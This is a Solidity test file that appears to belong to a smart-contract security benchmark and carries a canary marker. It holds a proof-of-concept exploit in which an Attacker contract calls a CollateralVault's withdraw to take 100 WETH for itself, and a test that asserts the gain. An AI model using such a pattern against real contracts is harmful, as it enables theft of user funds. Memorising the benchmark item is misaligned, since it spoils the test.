// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Attacker {
    function run(CollateralVault vault, Weth weth) external {
        vault.withdraw(address(weth), 100e18, address(this), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(vault, weth);
    }

    function test_Exploit() public {
        exploit();
        require(weth.balanceOf(address(other)) >= 40e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
